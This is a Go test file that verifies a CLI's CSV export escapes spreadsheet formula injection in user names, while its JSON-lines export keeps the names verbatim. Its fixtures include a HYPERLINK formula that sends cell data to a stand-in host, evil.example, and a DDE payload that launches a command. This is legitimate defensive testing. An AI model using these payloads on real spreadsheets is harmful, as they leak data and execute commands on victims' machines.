package main

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/microact/microact/cmd/internal/seed"
	"github.com/microact/microact/domain"
)

// The payloads an outside probe used to reach an admin's spreadsheet as live formulas (issue 20).
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?d="&B2,"x")`,
	`+SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(A1)`,
}

func TestExportWritesNoFormulas(t *testing.T) {
	o := newOperator(t)
	ctx := context.Background()
	args := append(slicesReplace(createArgs, "Anna Admin", formulaNames[0]), "--pack", "starter")
	if _, _, err := o.run(args...); err != nil {
		t.Fatal(err)
	}
	st := o.store()
	org, err := st.Org(ctx, "acme")
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	admin, err := st.UserByEmail(ctx, "acme", "anna@acme.example")
	if err != nil {
		t.Fatal(err)
	}
	users := []domain.User{admin}
	for i, name := range formulaNames[1:] {
		u, err := domain.NewUser(org, domain.UserInput{Name: name, Email: fmt.Sprintf("p%d@acme.example", i), Role: "employee"}, now)
		if err != nil {
			t.Fatal(err)
		}
		_, enrollment := domain.NewEnrollment(now)
		if err := st.CreateUser(ctx, u, enrollment, nil); err != nil {
			t.Fatal(err)
		}
		users = append(users, u)
	}
	// Everyone does every workday of the last two weeks (diligence is at least 0.55, so each
	// of them has outcomes).
	if _, err := (seed.History{Store: st, Org: org, Days: 14, Seed: 7, Workers: 1}).Run(ctx, users, now); err != nil {
		t.Fatal(err)
	}
	from := domain.AddDays(domain.LocalDay(now, org.Location()), -15)
	to := domain.LocalDay(now, org.Location())

	t.Run("the CSV has no cell a spreadsheet would evaluate", func(t *testing.T) {
		stdout, _, err := o.run("export", "--org", "acme", "--from", from, "--to", to)
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		names := map[string]bool{}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q starts like a formula", cell)
				}
			}
			names[row[2]] = true
		}
		for _, name := range formulaNames {
			if !names["'"+name] {
				t.Errorf("no user_name %q; names %v", "'"+name, names)
			}
		}
	})

	t.Run("JSON lines keep the names verbatim", func(t *testing.T) {
		stdout, _, err := o.run("export", "--org", "acme", "--from", from, "--to", to, "--format", "jsonl")
		if err != nil {
			t.Fatal(err)
		}
		names := map[string]bool{}
		sc := bufio.NewScanner(strings.NewReader(stdout))
		for sc.Scan() {
			var row struct {
				UserName string `json:"user_name"`
			}
			if err := json.Unmarshal(sc.Bytes(), &row); err != nil {
				t.Fatal(err)
			}
			names[row.UserName] = true
		}
		for _, name := range formulaNames {
			if !names[name] {
				t.Errorf("no user_name %q; names %v", name, names)
			}
		}
	})
}
